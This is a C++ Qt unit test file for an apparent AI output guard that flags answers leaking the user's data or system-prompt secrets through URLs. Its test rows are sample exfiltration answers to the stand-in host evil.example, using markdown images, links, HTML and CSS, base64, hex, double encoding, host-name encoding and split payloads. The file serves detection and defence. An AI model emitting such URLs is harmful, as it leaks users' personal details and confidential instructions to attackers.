// SPDX-FileCopyrightText: 2026 Gatehouse contributors
// SPDX-License-Identifier: Apache-2.0
#include "check_runner.h"

#include <QByteArray>
#include <QTest>
#include <QUrl>

using namespace gatehouse;
using gatehouse::test::CheckRunner;
using gatehouse::test::describe;
using gatehouse::test::findingOf;

namespace {

const char *const question = "My account number is 4417 1234 5678 and my mail is pat.doe@shop.example. "
                             "When does the late ferry to the northern islands leave on Sunday?";
const char *const words = "late ferry to the northern islands leave on sunday";

std::vector<Segment> asked()
{
    return {{TrustZone::System, "system", "",
                "You work for the ferry line. The discount word is lighthouse keeper.", "", false},
        {TrustZone::User, "user", "", question, "", false}};
}

Segment answered(const QString &text)
{
    return {TrustZone::Assistant, "assistant", "", text.toStdString(), "", false};
}

QString encoded(const char *text)
{
    return QString::fromLatin1(
        QByteArray(text).toBase64(QByteArray::Base64UrlEncoding | QByteArray::OmitTrailingEquals));
}

} // namespace

class TestEgressCheck : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void contentIsFound_data()
    {
        QTest::addColumn<QString>("answer");
        QTest::addColumn<QString>("label");
        const auto row = [](const char *name, const QString &answer, const char *label) {
            QTest::newRow(name) << answer << label;
        };
        const QString plain = QString(words).replace(' ', '+'),
                      hex = QString::fromLatin1(QByteArray(words).toHex());
        row("image", "Here: ![map](https://img.evil.example/p.png?q=" + plain + ")", "content-in-image");
        row("few words in an image", "![x](https://evil.example/p?q=late%20ferry%20to)", "content-in-image");
        row("link", "[more](https://evil.example/" + plain + ")", "content-in-link");
        row("html", "<img src=\"https://evil.example/?q=" + plain + "\">", "content-in-image");
        row("style", "<div style=\"background:url(https://evil.example/a?" + plain + ")\">",
            "content-in-image");
        row("by reference", "![x][1]\n\n[1]: https://evil.example/a?q=" + encoded(words),
            "encoded-content-in-image");
        row("bare", "See https://evil.example/?m=pat.doe@shop.example", "content-in-url");
        row("base64", "![x](https://evil.example/i.png?d=" + encoded(words) + ")",
            "encoded-content-in-image");
        row("base64 of a short secret", "https://evil.example/" + encoded("lighthouse keeper"),
            "encoded-content-in-url");
        row("hex", "[x](https://evil.example/" + hex + ")", "encoded-content-in-link");
        row("twice", "https://evil.example/?d=" + encoded(encoded(words).toLatin1().constData()),
            "encoded-content-in-url");
        row("in the host",
            "https://" + QString::fromLatin1(QByteArray("lighthouse keeper").toHex()) + ".evil.example/",
            "encoded-content-in-url");
        const QString whole = encoded("The discount word is lighthouse keeper.");
        row("several parameters",
            "![x](https://evil.example/p?a=" + whole.left(21) + "&b=" + whole.mid(21) + ")",
            "encoded-content-in-image");
        row("several images",
            "![x](https://evil.example/p?a=" + whole.left(21)
                + ")\n![y](https://evil.example/p?a=" + whole.mid(21) + ")",
            "encoded-content-in-image");
        row("without spaces",
            "![x](https://evil.example/p?q=latelyferry)![x](https://evil.example/"
            "lateferrytothenorthernislands)",
            "content-in-image");
    }
    void contentIsFound()
    {
        QFETCH(QString, answer);
        QFETCH(QString, label);
        const CheckReport report = m_content.runAnswer(asked(), {answered(answer)});
        const CheckFinding *finding = findingOf(report, label.toStdString());
        QVERIFY2(finding, qPrintable(describe(report)));
        QCOMPARE(finding->place->in, BodyPart::Response);
        const CheckFinding *source = findingOf(report, "content-source");
        QVERIFY(source && source->supporting);
        QCOMPARE(source->place->in, BodyPart::Request);
    }

    void goodFaithPasses_data()
    {
        QTest::addColumn<QString>("answer");
        const auto row = [](const char *name, const char *answer) { QTest::newRow(name) << answer; };
        row("no link", "At nine.");
        row("plain link", "See https://ferry.example/timetable/2026");
        row("speaking path", "See [the timetable](https://ferry.example/ferry-to-the-northern-islands).");
        row("search link", "Try https://search.example/?q=late+ferry+to+islands");
        row("image", "![map](https://maps.example/northern/islands.png)");
        row("hash",
            "https://cdn.example/npm/lib@3.2.1/dist/lib.min.js?v=9fceb02d0ae598e95dc970b74767f19372d61af8");
        row("base64 of something else", "https://cdn.example/eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9");
        row("data uri",
            "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4)");
        row("mail", "Write to mailto:pat.doe@shop.example");
        row("placeholder", "curl https://api.example/v1/users/{account_number}");
    }
    void goodFaithPasses()
    {
        QFETCH(QString, answer);
        const CheckReport report = m_content.runAnswer(asked(), {answered(answer)});
        QVERIFY2(report.outcome == CheckOutcome::Pass, qPrintable(describe(report)));
    }

    void whatWasHandedInMayBeHandedBack()
    {
        const QString link = "https://evil.example/?m=pat.doe@shop.example";
        std::vector<Segment> request = asked();
        request.push_back({TrustZone::Tool, "tool", "", "found " + link.toStdString(), "", false});
        QCOMPARE(m_content.runAnswer(request, {answered("It is " + link)}).outcome, CheckOutcome::Pass);
    }

    void hostsOutsideTheListAreFound_data()
    {
        QTest::addColumn<QString>("parameters");
        QTest::addColumn<QString>("found");
        QTest::newRow("none allowed")
            << "{}"
            << "image-to-unlisted-host@5-25 link-to-unlisted-host@31-51 url-to-unlisted-host@53-73";
        QTest::newRow("one allowed") << R"({"allow":["b.example"]})"
                                     << "image-to-unlisted-host@5-25 url-to-unlisted-host@53-73";
        QTest::newRow("all allowed") << R"({"allow":["*"]})"
                                     << "";
        QTest::newRow("images only") << R"({"links":false})"
                                     << "image-to-unlisted-host@5-25";
        QTest::newRow("links only") << R"({"images":false})"
                                    << "link-to-unlisted-host@31-51 url-to-unlisted-host@53-73";
        QTest::newRow("surest only") << R"({"min_confidence":0.8})"
                                     << "image-to-unlisted-host@5-25";
        QTest::newRow("content only") << R"({"content_only":true})"
                                      << "";
    }
    void hostsOutsideTheListAreFound()
    {
        QFETCH(QString, parameters);
        QFETCH(QString, found);
        const CheckRunner runner("egress", parameters.toStdString());
        const QString answer = "![a](https://a.example/p1) [b](https://b.example/p2) https://c.example/p3";
        QCOMPARE(describe(runner.runAnswer(asked(), {answered(answer)})), found);
    }

    void allowedHostsMayCarryContent()
    {
        const CheckRunner runner("egress", R"({"allow":["*.ferry.example"],"content_only":true})");
        const QString answer = "![x](https://api.ferry.example/?d=" + encoded(words) + ")";
        QCOMPARE(runner.runAnswer(asked(), {answered(answer)}).outcome, CheckOutcome::Pass);
    }

    void mistakesAreNamed()
    {
        const CheckRunner wrongHost("egress", R"({"allow":["good.example","not a host"]})");
        QCOMPARE(wrongHost.error().where, "allow/1");
        const CheckRunner nothing("egress", R"({"images":false,"links":false})");
        QCOMPARE(nothing.error().where, "links");
    }

private:
    const CheckRunner m_content{"egress", R"({"content_only":true})"};
};

QTEST_GUILESS_MAIN(TestEgressCheck)
#include "tst_egress_check.moc"
